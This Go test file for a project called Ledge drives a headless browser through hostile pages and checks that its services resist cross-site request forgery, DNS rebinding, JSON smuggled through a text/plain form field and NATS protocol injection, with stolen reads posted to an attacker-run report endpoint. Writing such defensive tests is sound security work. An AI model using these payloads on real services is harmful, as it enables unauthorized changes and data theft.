package attack

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"

	"ledge/cmd/ledgetest"
)

// foreignPage tries what a page may make a browser send without asking anybody, and what it may ask for. What it could read
// it reports, then it goes on to the next page.
const foreignPage = `<!doctype html><form method=post enctype=text/plain target=frame></form><iframe name=frame></iframe><script>
const o = %s, read = [];
const send = (url, body, type) => fetch(url, {method: "POST", mode: "no-cors", body, headers: type ? {"Content-Type": type} : {}}).catch(() => 0);
const look = (url, options) => fetch(url, options).then(async r => read.push(url + " " + await r.text())).catch(() => 0);
const load = (name, url) => new Promise(done => {
  const e = document.createElement(name);
  e.onload = () => { read.push(name + " " + url); done(); };
  e.onerror = done;
  e.src = url;
  document.body.append(e);
});
(async () => {
  for (const s of o.services) {
    await send(s + "/api/v2/device", o.device, "text/plain");
    await send(s + "/api/v2/subscription", o.subscription, "text/plain");
    await send(s + "/api/v2/secret", o.secret, "text/plain");
    await look(s + "/api/v2/config");
    await look(s + "/metrics");
    await load("script", s + "/api/v2/config");
  }
  const form = new FormData();
  form.append("file", new Blob([o.profile]), "f.yaml");
  await send(o.services[0] + "/api/v2/deviceprofile/uploadfile", form);
  const f = document.forms[0], posted = document.createElement("input"), frame = document.querySelector("iframe");
  posted.name = o.device.replace("evil", "formed").slice(0, -3) + ',"description":"'; // a form sends name=value
  posted.value = '"}}]';
  f.append(posted);
  f.action = o.services[0] + "/api/v2/device";
  await new Promise(done => { frame.onload = done; f.submit(); });
  await look(o.services[0] + "/api/v2/device/name/bystander", {method: "DELETE"});
  await load("img", o.image);
  await send(o.nats, "\r\nCONNECT {}\r\nPUB ledge.event.x 2\r\nhi\r\n");
  await fetch("/report", {method: "POST", body: JSON.stringify(read)});
  location = o.next;
})();
</script>`

// askingPage reads and changes: at its own origin where that is Ledge by now, else at Ledge's.
const askingPage = `<!doctype html><script>
const o = %s, read = [];
(async () => {
  for (const [url, options] of [
    [o.at + "/api/v2/device/name/bystander"],
    [o.at + "/api/v2/device", {method: "POST", headers: {"Content-Type": "application/json"}, body: o.device}],
  ]) {
    try { read.push(await (await fetch(url, options)).text()); } catch (e) {}
  }
  await fetch("/report", {method: "POST", body: JSON.stringify(read)});
  location = o.next;
})();
</script>`

// TestForeignPagesInABrowser opens, in a real browser, a page of another origin, one whose name was made to resolve to
// Ledge, and one whose origin is trusted.
func TestForeignPagesInABrowser(t *testing.T) {
	browser := ledgetest.FindBrowser()
	if browser == "" {
		t.Skip("no browser is installed: Debian's package chromium-headless-shell or chromium")
	}
	reports := make(chan []string, 1)
	evil, trusted := newPageServer(t, "127.0.0.2:0", reports), newPageServer(t, "127.0.0.3:0", reports)
	t.Setenv("LEDGE_TRUSTED_ORIGINS", trusted.url)
	a := startAttack(t)
	at, err := url.Parse(a.Metadata)
	if err != nil {
		t.Fatal(err)
	}
	rebound := newPageServer(t, "127.0.0.2:"+at.Port(), reports)
	rebound.mux.Handle("/", &httputil.ReverseProxy{ // the name resolves to Ledge from now on
		Transport: &http.Transport{},
		Rewrite:   func(r *httputil.ProxyRequest) { r.SetURL(at); r.Out.Host = r.In.Host },
	})
	photo, err := os.ReadFile("../../../docs/tour/photo.jpg")
	if err != nil {
		t.Fatal(err)
	}
	profile, err := os.ReadFile("../../../docs/tour/cam.yaml")
	if err != nil {
		t.Fatal(err)
	}
	a.Call(http.MethodPost, a.DeviceREST+"/api/v2/resource/sample-image/jpeg", "image/jpeg", string(photo))
	var list struct{ Readings []struct{ ID string } }
	if got := a.Call(http.MethodGet, a.CoreData+"/api/v2/reading/device/name/sample-image?limit=1", "", ""); json.Unmarshal([]byte(got.Body), &list) != nil || len(list.Readings) != 1 {
		t.Fatalf("the picture: %+v", got)
	}
	subscription := `[{"apiVersion":"v2","subscription":{"name":"evil","receiver":"r","adminState":"UNLOCKED","categories":["DEVICE_CHANGED"],"channels":[{"type":"REST","host":"127.0.0.2","port":9,"httpMethod":"POST"}]}}]`
	rebindURL := "http://rebind.example:" + at.Port()
	evil.page(foreignPage, map[string]any{
		"services": []string{a.Metadata, a.CoreData, a.DeviceREST, a.Notifications}, "device": "[" + ledgetest.DeviceJSON("evil") + "]", "subscription": subscription,
		"secret": `{"apiVersion":"v2","path":"evil","secretData":[{"key":"k","value":"v"}]}`, "profile": string(profile),
		"image": a.CoreData + "/api/v2/reading/id/" + list.Readings[0].ID + "/binary", "nats": "http://" + a.NATS[strings.LastIndexAny(a.NATS, "@/")+1:], "next": rebindURL + "/page",
	})
	rebound.page(askingPage, map[string]any{"at": "", "device": "[" + ledgetest.DeviceJSON("rebound") + "]", "next": trusted.url + "/page"})
	trusted.page(askingPage, map[string]any{"at": a.Metadata, "device": "[" + ledgetest.DeviceJSON("trusted") + "]", "next": "about:blank"})
	ctx, cancel := context.WithTimeout(t.Context(), ledgetest.Timeout)
	defer cancel()
	cmd := exec.CommandContext(ctx, browser, "--headless", "--no-sandbox", "--disable-gpu", "--user-data-dir="+filepath.Join(t.TempDir(), "profile"),
		"--host-resolver-rules=MAP rebind.example 127.0.0.2", "--remote-debugging-port=0", evil.url+"/page")
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	cmd.Cancel = func() error { return syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) }
	console := &ledgetest.Output{More: make(chan struct{}, 1)}
	cmd.Stderr = console
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	next := func() (read []string) {
		select {
		case read = <-reports:
		case <-ctx.Done():
			t.Fatalf("the browser has not reported\n%s", console)
		}
		return read
	}
	for _, one := range next() {
		t.Errorf("a foreign page has read %.300s", one)
	}
	if got := next(); slices.ContainsFunc(got, func(text string) bool { return !strings.Contains(text, "allow-hosts") }) || len(got) != 2 {
		t.Errorf("a page whose name resolves to Ledge has read %q", got)
	}
	if got := next(); len(got) != 2 || !strings.Contains(got[0], `"name":"bystander"`) || !strings.Contains(got[1], `"statusCode":201`) {
		t.Errorf("a trusted page has read %q", got)
	}
	cancel()
	_ = cmd.Wait()
	for _, url := range []string{
		a.Metadata + "/api/v2/device/name/evil", a.Metadata + "/api/v2/device/name/formed", a.Metadata + "/api/v2/device/name/rebound", a.Metadata + "/api/v2/deviceprofile/name/camera",
		a.Notifications + "/api/v2/subscription/name/evil",
	} {
		if got := a.Call(http.MethodGet, url, "", ""); got.Status != http.StatusNotFound {
			t.Errorf("a foreign page has changed %s: %d %s", url, got.Status, got.Body)
		}
	}
	if text, err := os.ReadFile(filepath.Join(a.Dir, "secrets.json")); err == nil && strings.Contains(string(text), "evil") {
		t.Errorf("a foreign page has posted a secret: %s", text)
	}
	a.held(t)
}

// pageServer serves a page, and takes its report.
type pageServer struct {
	url string
	mux *http.ServeMux
}

func newPageServer(t *testing.T, address string, reports chan<- []string) *pageServer {
	t.Helper()
	l, err := net.Listen("tcp", address)
	if err != nil {
		t.Fatal(err)
	}
	s := &pageServer{mux: http.NewServeMux()}
	s.mux.HandleFunc("POST /report", func(_ http.ResponseWriter, r *http.Request) {
		var read []string
		if text, err := io.ReadAll(r.Body); err == nil && json.Unmarshal(text, &read) == nil {
			reports <- read
		}
	})
	server := httptest.NewUnstartedServer(s.mux)
	server.Listener.Close()
	server.Listener = l
	server.Start()
	t.Cleanup(func() { server.CloseClientConnections(); server.Close() })
	s.url = server.URL
	return s
}

// page has the server serve a page with its options, once all are known.
func (s *pageServer) page(text string, options map[string]any) {
	o, _ := json.Marshal(options) // texts only
	s.mux.HandleFunc("GET /page", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, text, o)
	})
}
